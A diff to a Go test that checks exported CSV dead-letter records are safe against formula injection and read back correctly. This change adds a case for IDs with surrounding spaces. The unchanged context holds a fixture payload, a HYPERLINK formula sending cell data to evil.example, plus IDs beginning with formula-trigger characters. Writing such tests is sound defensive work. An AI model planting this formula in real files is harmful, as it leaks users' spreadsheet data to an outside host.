@@ -25,10 +25,17 @@ func TestExportedCSVIsSafeAndReadsBack(t *testing.T) {
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"details")`
 	g := jobs.Target{GroupID: "@TGS#1", TopicID: "@TGS#1@TOPIC#=1+1"}
 	c := jobs.Target{From: "-spam", To: "+bob"}
+	spaced := jobs.Target{From: " carol ", To: "dave"} // an ID may begin or end with a space
 	if _, err := s.PlanGroup(ctx, j.ID, g, []int64{7}); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := s.PlanC2C(ctx, j.ID, c, []string{"1_2_3"}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.PlanC2C(ctx, j.ID, spaced, []string{"4_5_6"}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.Record(ctx, j.ID, spaced, []jobs.Outcome{{Item: "4_5_6", Code: "10002", Attempts: 1}}); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := s.Record(ctx, j.ID, g, []jobs.Outcome{{Item: "7", Code: "10002", ErrorInfo: formula, Attempts: 1}}); err != nil {
@@ -39,7 +46,7 @@ func TestExportedCSVIsSafeAndReadsBack(t *testing.T) {
 	}
 
 	var out bytes.Buffer
-	if n, err := s.ExportDeadLetters(ctx, j.ID, nil, "csv", &out); err != nil || n != 2 {
+	if n, err := s.ExportDeadLetters(ctx, j.ID, nil, "csv", &out); err != nil || n != 3 {
 		t.Fatalf("ExportDeadLetters csv = %d, %v", n, err)
 	}
 	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
@@ -58,7 +65,7 @@ func TestExportedCSVIsSafeAndReadsBack(t *testing.T) {
 	if err := ReadList(ctx, bytes.NewReader(out.Bytes()), "dead.csv", func(_ int, m Message) error { got = append(got, m); return nil }); err != nil {
 		t.Fatal(err)
 	}
-	want := []Message{{GroupID: g.GroupID, TopicID: g.TopicID, MsgSeq: 7}, {From: c.From, To: c.To, MsgKey: "1_2_3"}}
+	want := []Message{{GroupID: g.GroupID, TopicID: g.TopicID, MsgSeq: 7}, {From: c.From, To: c.To, MsgKey: "1_2_3"}, {From: spaced.From, To: spaced.To, MsgKey: "4_5_6"}}
 	if len(got) != len(want) {
 		t.Fatalf("read back %+v, want %+v", got, want)
 	}
